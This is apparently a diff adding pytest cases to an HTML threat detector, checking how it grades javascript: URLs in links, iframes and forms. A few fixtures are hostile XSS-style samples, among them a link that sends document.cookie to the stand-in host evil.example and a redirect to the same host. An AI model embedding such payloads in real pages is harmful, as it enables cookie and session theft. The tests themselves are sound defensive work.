@@ -568,6 +568,40 @@ def test_a_print_view_printing_and_closing_itself_from_body_onload_is_a_review_n
         assert (got, f.confidence) == (Verdict.threat, 0.9)
 
 
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:history.back()", "javascript:window.print()", "javascript: history.go(-1); void(0)",
+     "javascript:openCart('blue')", "JavaScript:location.reload()"],
+)  # fmt: skip
+def test_a_link_whose_javascript_url_does_what_a_button_does_is_a_review(url: str) -> None:
+    """``<a href="javascript:history.back()">Back</a>`` runs when clicked, as an onclick does. Before,
+    it was a 0.9 javascript: URL (a strike)."""
+    page = f'<html><body><a href="{url}">Back</a><area href="{url}"></body></html>'.encode()
+    got, _, findings = judge(page, "order.html")
+    (f,) = findings
+    assert (got, f.confidence, f.evidence["interaction_handlers"], f.evidence["javascript_urls"]) == (
+        Verdict.review,
+        0.6,
+        {"javascript-link": 2},
+        0,
+    )
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<a href="javascript:alert(document.domain)">x</a>',
+        "<a href=\"javascript:void(0);fetch('//evil.example/?'+document.cookie)\">x</a>",
+        "<a href=\"javascript:window.location='//evil.example'\">x</a>",
+        '<iframe src="javascript:history.back()"></iframe>',  # runs by itself, not on a click
+        '<form action="javascript:print()"><button>Go</button></form>',
+    ],
+)
+def test_a_javascript_url_that_runs_a_payload_or_runs_by_itself_stays_a_threat(markup: str) -> None:
+    got, _, findings = judge(f"<html><body>{markup}</body></html>".encode(), "x.html")
+    assert got is Verdict.threat and [f.confidence for f in findings] == [0.9]
+
+
 def test_a_legacy_site_with_onload_and_fallbacks_is_held_for_review_not_struck() -> None:
     page = (
         b'<!doctype html><html><head><title>Acme Tools</title><script src="/js/app.js"></script>'
